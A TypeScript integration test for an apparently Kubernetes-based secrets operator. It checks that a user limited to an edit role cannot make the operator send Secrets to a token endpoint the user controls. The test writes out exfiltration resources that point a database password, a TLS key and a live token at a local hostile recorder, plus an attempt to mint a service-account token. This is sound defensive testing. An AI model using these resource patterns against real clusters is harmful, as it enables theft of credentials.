// The confused deputy of issue 15, tried end to end as the attacker would: a user bound only to
// coffre-edit (no access to Secrets) points coffre at a Secret of the namespace and at a token endpoint
// they own, four ways. A hostile HTTPS server records every byte it receives. With the chart's admission
// policy, every attempt is refused by the API server and the server receives nothing; the control at the
// end (the same references written by an admin, who may read the Secret) shows that the recorder would
// have caught the canary.
import { generateKeyPairSync } from 'node:crypto';
import type { IncomingMessage } from 'node:http';
import { afterEach, describe, expect, it } from 'vitest';
import { startLocalHttpsServer, type LocalHttpsServer } from '../../../tools/local-https-server.ts';
import { useTestNamespace } from '../../support/cluster.ts';
import { apply, waitForCondition } from '../../support/kube.ts';
import { startTestOperator } from '../../support/operator.ts';
import { attempt, personWithRole } from '../../support/people.ts';

const CANARY = 'CANARY-postgres-admin-password-9f2c41';
const KEY_CANARY_MARK = 'CANARY-KEY';

interface Recorder {
  server: LocalHttpsServer;
  received(): string;
}

const servers: LocalHttpsServer[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.stop()));
});

/** A token endpoint that records everything (path, headers, body) and answers invalid_client. */
async function hostileServer(): Promise<Recorder> {
  let received = '';
  const server = await startLocalHttpsServer({
    handler: async (req: IncomingMessage, res) => {
      const chunks: Buffer[] = [];
      for await (const chunk of req) chunks.push(chunk as Buffer);
      received += `${req.method ?? ''} ${req.url ?? ''}\n${JSON.stringify(req.headers)}\n${Buffer.concat(chunks).toString()}\n`;
      res.writeHead(401, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: 'invalid_client' }));
    },
  });
  servers.push(server);
  return { server, received: () => received };
}

const API = '/apis/coffre.dev/v1alpha1/namespaces';

describe('confused deputy', () => {
  it('never lets a coffre-edit user make coffre send a Secret it may not read to a host it owns', async () => {
    const namespace = await useTestNamespace('deputy');
    const hostile = await hostileServer();
    await startTestOperator({ namespace, caPem: hostile.server.caPem });
    const host = `127.0.0.1:${String(hostile.server.port)}`;
    const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    // The namespace's secrets: a database password, a TLS key, and another connection's live token.
    await apply(namespace, {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'postgres-admin' },
      stringData: { password: CANARY, clientId: 'db', clientSecret: CANARY },
    });
    await apply(namespace, {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'tls-key', labels: { mark: KEY_CANARY_MARK } },
      stringData: { privateKey: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString() },
    });
    await apply(namespace, {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'billing-source' },
      stringData: { token: CANARY },
    });
    await apply(namespace, {
      apiVersion: 'coffre.dev/v1alpha1',
      kind: 'VaultConnection',
      metadata: { name: 'billing' },
      spec: {
        type: 'bearerToken',
        credentialsRef: { name: 'billing-source' },
        target: { template: { data: { clientId: 'billing', clientSecret: '{{ .access_token }}' } } },
      },
    });
    await waitForCondition(namespace, 'billing', 'Ready', 'True');

    const mallory = await personWithRole(namespace, 'coffre-edit', 'mallory');
    const post = (plural: string, object: Record<string, unknown>) =>
      attempt(mallory, `${API}/${namespace}/${plural}`, 'POST', object);
    const attacks = {
      'a client secret for a token endpoint of their own': await post('oauthclients', {
        apiVersion: 'coffre.dev/v1alpha1',
        kind: 'OAuthClient',
        metadata: { name: 'exfiltrate' },
        spec: {
          issuer: `https://${host}/`,
          tokenEndpoint: `https://${host}/t`,
          authMethod: 'client_secret_post',
          clientId: 'x',
          clientSecretRef: { name: 'postgres-admin', key: 'password' },
        },
      }),
      'an auth0 domain of their own': await post('vaultconnections', {
        apiVersion: 'coffre.dev/v1alpha1',
        kind: 'VaultConnection',
        metadata: { name: 'exfiltrate-auth0' },
        spec: { type: 'auth0', auth0: { domain: host }, credentialsRef: { name: 'postgres-admin' } },
      }),
      'a TLS key to sign assertions with (a JWT-signing oracle)': await post('oauthclients', {
        apiVersion: 'coffre.dev/v1alpha1',
        kind: 'OAuthClient',
        metadata: { name: 'oracle' },
        spec: {
          issuer: `https://${host}/`,
          tokenEndpoint: `https://${host}/t`,
          authMethod: 'private_key_jwt',
          clientId: 'x',
          privateKeyRef: { name: 'tls-key' },
        },
      }),
      "another connection's target Secret (its live token)": await post('vaultconnections', {
        apiVersion: 'coffre.dev/v1alpha1',
        kind: 'VaultConnection',
        metadata: { name: 'exfiltrate-token' },
        spec: { type: 'auth0', auth0: { domain: host }, credentialsRef: { name: 'billing-token' } },
      }),
      'a service-account token written into a Secret coffre owns': await post('vaultconnections', {
        apiVersion: 'coffre.dev/v1alpha1',
        kind: 'VaultConnection',
        metadata: { name: 'sa-token' },
        spec: {
          type: 'apiKey',
          target: {
            template: {
              type: 'kubernetes.io/service-account-token',
              annotations: { 'kubernetes.io/service-account.name': 'ci-deployer' },
            },
          },
        },
      }),
    };
    // Refused by the admission policy (403), except the Secret type, which the CRD's schema refuses (422).
    const statuses = Object.fromEntries(Object.entries(attacks).map(([what, o]) => [what, o.status]));
    expect(statuses).toEqual({
      'a client secret for a token endpoint of their own': 403,
      'an auth0 domain of their own': 403,
      'a TLS key to sign assertions with (a JWT-signing oracle)': 403,
      "another connection's target Secret (its live token)": 403,
      'a service-account token written into a Secret coffre owns': 422,
    });
    expect(attacks['a client secret for a token endpoint of their own'].message).toContain(
      'may not get Secret postgres-admin',
    );
    expect(attacks["another connection's target Secret (its live token)"].message).toContain(
      'may not get Secret billing-token',
    );
    expect(attacks['a service-account token written into a Secret coffre owns'].message).toContain(
      'spec.target.template.type',
    );

    // What mallory may do still works, and the operator has processed it: an empty connection.
    const empty = await post('vaultconnections', {
      apiVersion: 'coffre.dev/v1alpha1',
      kind: 'VaultConnection',
      metadata: { name: 'declared-first' },
      spec: { type: 'apiKey' },
    });
    expect(empty.status).toBe(201);
    await waitForCondition(namespace, 'declared-first', 'Empty', 'True');
    expect(hostile.server.requests()).toBe(0);
    expect(hostile.received()).not.toContain(CANARY);

    // The control: an admin, who may read postgres-admin, writes the first attack; the recorder sees the
    // canary, so the zero above is a real zero.
    await apply(namespace, {
      apiVersion: 'coffre.dev/v1alpha1',
      kind: 'VaultConnection',
      metadata: { name: 'admin-auth0' },
      spec: { type: 'auth0', auth0: { domain: host }, credentialsRef: { name: 'postgres-admin' } },
    });
    await expect.poll(() => hostile.received(), { timeout: 30_000, interval: 200 }).toContain(CANARY);
  });
});
